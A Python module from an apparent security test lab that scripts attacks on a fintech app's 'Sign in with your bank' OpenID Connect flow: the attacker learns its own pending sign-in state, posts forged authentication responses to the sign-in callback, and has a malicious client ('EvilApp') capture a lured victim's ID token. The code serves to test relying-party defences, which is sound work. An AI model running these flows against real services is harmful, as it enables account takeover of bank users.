"""Shared steps of the attacks on FinLens's "Sign in with your bank" (attacks.md §3 C, D):
the attacker's own sign-in flow at FinLens, an ID token posted to the sign-in callback,
and EvilApp — the attacker's own client at the honest AS — collecting a victim's ID token.

The attacker's browser starts "Sign in with HonestBank" like anyone; with PAR the state
is not in the URL, so it runs its own flow through as mallory to learn it and keeps the
response undelivered (as frontchannel.own_pending_flow does for links).
"""

from __future__ import annotations

import secrets
from urllib.parse import urlencode

import requests

from lab.tpp.session import SIGNIN_CALLBACK
from lab.web.request_id import HEADER

from . import login_support as ls
from . import token_support as ts
from .attack_context import AttackContext
from .frontchannel import AttackerBrowser, query_of
from .outcome import AttackSetupError
from .victim import HttpVictim


def start_signin(ctx: AttackContext, attacker: AttackerBrowser) -> str:
    """Click "Sign in with HonestBank" in the attacker's browser: a pending sign-in flow."""
    response = attacker.http.post(attacker.browser.url("/signin/bank/honestbank"),
                                  allow_redirects=False, timeout=30)
    ctx.note_request(response, actor="attacker")
    if response.status_code != 303:
        ctx.failed(f"FinLens did not start the attacker's sign-in: {response.status_code}",
                   response)
    url = response.headers["Location"]
    ctx.step("attacker", "clicks \"Sign in with HonestBank\" at FinLens in its own browser",
             url=url, status=response.status_code)
    return url


def own_pending_signin(ctx: AttackContext) -> tuple[AttackerBrowser, str | None]:
    """The attacker's browser with a sign-in flow pending at FinLens, and its state."""
    attacker = AttackerBrowser(ctx)
    url = start_signin(ctx, attacker)
    state = query_of(url).get("state")
    if state is None:
        result = attacker.authorize(url, what="runs its own sign-in through as mallory to "
                                    "learn its state (PAR hides it), keeps the response")
        state = result.state
    return attacker, state


def signs_in_as_mallory(ctx: AttackContext) -> AttackerBrowser:
    """The attacker signs in to FinLens with its own bank login, in a fresh browser."""
    attacker = AttackerBrowser(ctx)
    own = attacker.authorize(start_signin(ctx, attacker),
                             what="signs in at the AS as mallory")
    assert own.callback_url is not None   # authorize() ends the attack otherwise
    attacker.deliver(own.callback_url, "is sent back to FinLens's sign-in callback")
    return attacker


def post_signin(ctx: AttackContext, attacker: AttackerBrowser, fields: dict[str, str],
                what: str) -> requests.Response:
    """POST an authentication response to FinLens's sign-in callback (the fragment page's
    shape, OIDC §3.3.2.5); a refusal ends the attack. It names the honest AS as `iss`
    (RFC 9207: the issuer is public), so tpp_checks_iss has nothing to catch."""
    url = ctx.url("tpp", SIGNIN_CALLBACK)
    fields = {"iss": ctx.config.issuer, **fields}
    response = attacker.http.post(url, data=fields, allow_redirects=False, timeout=60)
    ctx.note_request(response, actor="attacker")
    ctx.step("attacker", what, method="POST", url=url, status=response.status_code,
             request_id=response.headers.get(HEADER))
    if response.status_code >= 400:
        ctx.failed(f"FinLens refused the sign-in: {response.status_code}", response)
    return response


def evilapp_id_token(ctx: AttackContext, victim: HttpVictim) -> str:
    """The victim, lured to EvilApp, signs in at the honest AS; EvilApp redeems the code
    with its own client (PKCE, PAR and DPoP where the AS asks) and keeps his ID token."""
    meta = ts.metadata(ctx)
    client = ctx.own_client()
    verifier, challenge = ls.pkce_pair()
    params = {"response_type": "code", "client_id": client["client_id"],
              "redirect_uri": client["redirect_uri"], "scope": "openid",
              "state": secrets.token_urlsafe(16), "nonce": secrets.token_urlsafe(16),
              "code_challenge": challenge, "code_challenge_method": "S256"}
    params = ctx.own_request(meta, params)
    authorize = str(meta["authorization_endpoint"])
    if meta.get("require_pushed_authorization_requests"):
        pushed = ctx.send("POST", str(meta["pushed_authorization_request_endpoint"]),
                          data={**params, **ctx.own_client_auth("par")},
                          what="EvilApp pushes its own sign-in request (PAR)")
        request_uri = ts.json_body(pushed).get("request_uri")
        if not isinstance(request_uri, str):
            raise AttackSetupError(f"EvilApp's PAR failed: {pushed.status_code}")
        url = authorize + "?" + urlencode({"client_id": client["client_id"],
                                           "request_uri": request_uri})
    else:
        url = authorize + "?" + urlencode(params)
    ctx.step("attacker", "EvilApp offers \"Sign in with HonestBank\" (its own client)", url=url)
    # The AS sends the victim's browser to EvilApp's own redirect URI: the code is the
    # attacker's to read there (its own server, whatever port this lab runs it on).
    result = victim.authorize(url, deliver=False)
    code = result.params.get("code")
    if not code:
        ctx.failed("EvilApp received no code from the victim's sign-in")
    ctx.step("attacker", "EvilApp's redirect URI receives the victim's code",
             url=result.callback_url)
    signer = ctx.dpop_signer() if ts.dpop_required(meta) else None
    form = {"grant_type": "authorization_code", "code": code,
            "redirect_uri": client["redirect_uri"], "code_verifier": verifier}
    response = ts.post_token(ctx, form, signer=signer,
                             renew=lambda: (ctx.own_client_auth("token"), None),
                             what="EvilApp redeems the victim's code with its own client")
    id_token = ts.json_body(response).get("id_token")
    if response.status_code != 200 or not isinstance(id_token, str):
        ctx.failed("EvilApp got no ID token for the victim", response)
    ctx.step("attacker", "EvilApp holds the victim's ID token (aud = EvilApp)")
    return id_token
